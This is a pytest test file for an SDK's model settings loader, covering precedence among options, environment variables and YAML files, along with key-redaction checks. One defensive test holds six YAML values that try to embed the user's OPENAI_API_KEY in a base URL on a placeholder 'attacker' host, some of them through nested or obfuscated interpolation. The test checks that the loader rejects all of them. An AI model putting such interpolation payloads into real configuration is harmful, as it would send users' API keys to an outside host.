"""Options, environment variables and files, in that order."""

from __future__ import annotations

from pathlib import Path

import pytest

from gymsdk.errors import BadModelOption
from gymsdk.models.options import (
    ENVIRONMENT_VARIABLES,
    ModelOptions,
    load_policy_settings,
    resolve_endpoint,
    resolve_model_name,
    validate_options,
)

FILE = """
policy_base_url: http://file:8000/v1
policy_api_key: sk-file
policy_model_name: file-model
hf_token: ${oc.env:NO_SUCH_VARIABLE_ANYWHERE}
some_server:
  port: ???
  inherit: ${inherit_from:a.b}
"""


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    for variable in ENVIRONMENT_VARIABLES.values():
        monkeypatch.delenv(variable, raising=False)
    return tmp_path


def write(path: Path, text: str = FILE, mode: int = 0o600) -> None:
    path.write_text(text)
    path.chmod(mode)


def key(found: object) -> str | None:
    secret = getattr(found, "policy_api_key", None) or getattr(found, "api_key", None)
    return secret and secret.get_secret_value()


def test_without_files_and_variables_nothing_is_set(folder: Path) -> None:
    assert load_policy_settings().model_dump() == dict.fromkeys(ENVIRONMENT_VARIABLES)
    write(folder / "env.yaml", "policy_base_url: ???\npolicy_api_key:\npolicy_model_name: 7")
    expected = {"policy_base_url": None, "policy_api_key": None, "policy_model_name": "7"}
    assert load_policy_settings().model_dump() == expected


@pytest.mark.parametrize("name", ["env.yaml", ".env.yaml"])
def test_a_file_with_other_settings_is_read(folder: Path, name: str) -> None:
    write(folder / name)
    found = load_policy_settings()
    assert (found.policy_base_url, key(found)) == ("http://file:8000/v1", "sk-file")
    assert found.policy_model_name == "file-model"


@pytest.mark.parametrize(
    ("text", "name", "value"),
    [
        ("host: there\npolicy_base_url: http://${host}/v1", "policy_base_url", "http://there/v1"),
        ("host: there\npolicy_model_name: m-${ host }", "policy_model_name", "m-there"),
        ("policy_model_name: 'm-\\${oc.env:HOME}'", "policy_model_name", "m-${oc.env:HOME}"),
    ],
)
def test_a_value_may_refer_to_another_value_in_the_file(folder: Path, text: str, name: str, value: str) -> None:
    write(folder / "env.yaml", text)
    assert getattr(load_policy_settings(), name) == value


def test_a_variable_wins_over_the_hidden_file_and_this_file_over_the_plain_one(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(folder / "env.yaml")
    write(folder / ".env.yaml", "policy_model_name: hidden")
    assert load_policy_settings().policy_model_name == "hidden"
    monkeypatch.setenv("GYMSDK_MODEL", "variable-model")
    assert load_policy_settings().policy_model_name == "variable-model"
    assert load_policy_settings().policy_base_url == "http://file:8000/v1"


def test_a_base_url_from_a_file_never_receives_a_key_from_a_variable(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GYMSDK_API_KEY", "sk-variable")
    write(folder / "env.yaml")
    assert (key(load_policy_settings()), key(resolve_endpoint("vllm/x", ModelOptions()))) == ("sk-file", "sk-file")
    write(folder / "env.yaml", "policy_base_url: http://foreign/v1")
    assert (key(load_policy_settings()), key(resolve_endpoint("vllm/x", ModelOptions()))) == (None, None)


def test_a_base_url_from_an_option_or_variable_never_receives_a_key_from_a_file(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(folder / "env.yaml")
    given = validate_options("vllm/x", {"base_url": "http://given/v1"})
    assert key(resolve_endpoint("vllm/x", given)) is None
    monkeypatch.setenv("GYMSDK_BASE_URL", "http://variable/v1")
    assert key(resolve_endpoint("vllm/x", ModelOptions())) is None
    monkeypatch.setenv("GYMSDK_API_KEY", "sk-variable")
    assert key(resolve_endpoint("vllm/x", given)) == key(resolve_endpoint("vllm/x", ModelOptions())) == "sk-variable"


@pytest.mark.parametrize(
    "text",
    [
        "policy_base_url: http://attacker/${oc.env:OPENAI_API_KEY}/v1",
        "policy_base_url: http://attacker/${taken}/v1\ntaken: ${oc.env:OPENAI_API_KEY}",
        "policy_base_url: http://attacker/${a.b[0]}/v1\na: {b: ['${oc.env:OPENAI_API_KEY}']}",
        "policy_base_url: http://attacker/${${name}:OPENAI_API_KEY}/v1\nname: oc.env",
        "policy_base_url: 'http://attacker/\\\\${oc.env:OPENAI_API_KEY}/v1'",
        "policy_base_url: http://attacker/${oc.decode:'${oc.env:OPENAI_API_KEY}'}/v1",
    ],
)
def test_a_file_in_the_working_folder_cannot_read_environment_variables(
    folder: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-of-the-user")
    write(folder / "env.yaml", text)
    with pytest.raises(
        BadModelOption, match=r"env\.yaml:1: policy_base_url uses a function.*GYMSDK_BASE_URL"
    ) as caught:
        load_policy_settings()
    assert "sk-secret" not in str(caught.value)


@pytest.mark.parametrize(
    ("text", "mode", "warnings"), [(FILE, 0o644, 1), (FILE, 0o600, 0), ("policy_model_name: x", 0o644, 0)]
)
def test_a_key_that_others_can_read_logs_one_warning(
    folder: Path, caplog: pytest.LogCaptureFixture, text: str, mode: int, warnings: int
) -> None:
    write(folder / "env.yaml", text, mode)
    load_policy_settings()
    assert caplog.text.count("chmod 600") == len(caplog.messages) == warnings
    assert "sk-file" not in caplog.text


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        ("\npolicy_api_key: [sk-torn", "2: this is not valid YAML"),
        ("- policy_api_key", "key: value"),
        ("policy_base_url: [[1]]", "policy_base_url"),
        ("policy_model_name: [a, b]", "policy_model_name"),
        ("policy_api_key: ${no_such_key}", "does not resolve"),
        ("policy_api_key: sk-torn \xff\x00", r"env\.yaml"),
    ],
)
def test_a_bad_file_is_named_and_never_quoted(folder: Path, text: str, complaint: str) -> None:
    (folder / "env.yaml").write_bytes(text.encode("latin-1"))
    with pytest.raises(BadModelOption, match=complaint) as caught:
        load_policy_settings()
    assert "env.yaml" in str(caught.value)
    assert "sk-torn" not in str(caught.value)


def test_a_missing_or_invalid_base_url_is_rejected_with_all_ways_to_set_it(folder: Path) -> None:
    with pytest.raises(BadModelOption, match=r"vllm/x .*--base-url.*GYMSDK_BASE_URL.*policy_base_url"):
        resolve_endpoint("vllm/x", ModelOptions())
    write(folder / "env.yaml", "policy_base_url: localhost")
    with pytest.raises(BadModelOption, match="http://HOST:PORT/v1"):
        resolve_endpoint("vllm/x", ModelOptions())


def test_a_missing_name_is_taken_from_the_settings(folder: Path) -> None:
    with pytest.raises(BadModelOption, match="GYMSDK_MODEL"):
        resolve_model_name("vllm", "")
    write(folder / "env.yaml")
    assert (resolve_model_name("vllm", ""), resolve_model_name("vllm", "given")) == ("file-model", "given")


@pytest.mark.parametrize(
    ("given", "complaint"),
    [
        ({"base_url": "http://me:hush@127.0.0.1:1/v1"}, "leave user and password out of it"),
        ({"base_url": ["http://a/v1", "localhost"]}, "'base_url' of vllm/x: write it as http://HOST:PORT/v1"),
        ({"base_url": "http://a/v1/chat/completions"}, "'base_url' of vllm/x: leave /chat/completions out of it"),
        ({"pinned": {"stream": True}}, "'pinned' of vllm/x: 'stream' belongs to the request and cannot be an option"),
        ({"extra_body": {"tools": []}}, "'extra_body' of vllm/x: 'tools' belongs to the request"),
        ({"timeout": -1}, "'timeout' of vllm/x"),
        ({"api": "messages"}, "'api' of vllm/x"),
        ({"retrys": 1}, "'retrys' of vllm/x.*did you mean 'retries'"),
    ],
)
def test_a_wrong_option_is_named(given: dict[str, object], complaint: str) -> None:
    with pytest.raises(BadModelOption, match=complaint) as refused:
        validate_options("vllm/x", given)
    assert "hush" not in str(refused.value)


SEVERAL = ("http://a:1/v1", "http://b:2/v1")


@pytest.mark.parametrize("given", [",".join(SEVERAL), list(SEVERAL), SEVERAL, [*SEVERAL, SEVERAL[0]]])
def test_an_option_a_variable_and_a_file_may_name_several_servers(
    folder: Path, monkeypatch: pytest.MonkeyPatch, given: object
) -> None:
    assert validate_options("vllm/x", {"base_url": given}).base_url == SEVERAL
    write(folder / "env.yaml", f"policy_base_url: [{', '.join(SEVERAL)}]")
    assert resolve_endpoint("vllm/x", ModelOptions()).base_url == SEVERAL
    monkeypatch.setenv("GYMSDK_BASE_URL", f"{SEVERAL[1]}, {SEVERAL[0]},{SEVERAL[1]}")
    assert resolve_endpoint("vllm/x", ModelOptions()).base_url == SEVERAL[::-1]


def test_options_with_objects_are_comparable_and_hashable() -> None:
    one, other = (validate_options("vllm/x", {"base_url": SEVERAL, "pinned": {"top_k": k}}) for k in (1, 2))
    again = validate_options("vllm/x", one.model_dump())
    assert (one == again, hash(one) == hash(again), one == other) == (True, True, False)


def test_keys_and_headers_are_never_shown(folder: Path) -> None:
    write(folder / "env.yaml")
    found = load_policy_settings()
    options = {"api_key": "sk-given", "base_url": "http://x/v1", "headers": {"X-Team": "sk-team"}}
    given = validate_options("vllm/x", options)
    assert "sk-" not in f"{found!r}{found}{given!r}{given}{given.model_dump()}{given.model_dump_json()}"
    with pytest.raises(BadModelOption) as caught:
        validate_options("vllm/x", {"api_key": ["sk-list"]})
    assert "sk-list" not in str(caught.value)
